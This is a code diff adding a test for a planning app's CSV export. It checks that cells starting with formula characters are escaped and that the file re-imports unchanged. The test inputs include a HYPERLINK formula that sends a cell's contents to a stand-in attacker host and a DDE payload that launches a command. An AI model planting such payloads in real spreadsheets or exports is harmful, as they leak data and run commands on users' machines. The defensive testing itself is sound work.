@@ -135,3 +135,21 @@ describe('plan export and import', () => {
     expect((await upload(coordinator, 'big.csv', big, true)).statusCode).toBe(413);
   });
 });
+
+describe('formula injection in the CSV export', () => {
+  it('a title that looks like a formula is written as text, and the export still re-imports unchanged', async () => {
+    const formula = '=HYPERLINK("https://angripare.example/?d="&B2;"Öppna planen")';
+    const [first] = parseCsv(await exportPlan('csv')).rows;
+    await ctx.database.db.execute(sql`update plan_actions set title = ${formula}, description = ${'@SUM(1+1)*cmd|" /C calc"!A0'} where id = ${first.Id}`);
+    const raw = (await exportPlan('csv')).toString('utf8');
+    // No cell of the file begins with a formula character (cells are separated by ; and may be quoted).
+    expect(raw).toContain(`"'=HYPERLINK(""https://angripare.example/?d=""&B2;""Öppna planen"")"`);
+    expect(raw).toContain(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
+    for (const line of raw.replace(/^\uFEFF/, '').split('\r\n')) expect(line).not.toMatch(/(^|;)"?[=+@]/);
+    // Trygg reads its own export back to the same text: nothing to change.
+    const row = parseCsv(raw).rows.find((r) => r.Id === first.Id)!;
+    expect(row.Åtgärd).toBe(formula);
+    const report = (await upload(coordinator, 'plan.csv', Buffer.from(raw), true)).json();
+    expect(report.counts).toMatchObject({ update: 0, create: 0, invalid: 0 });
+  });
+});
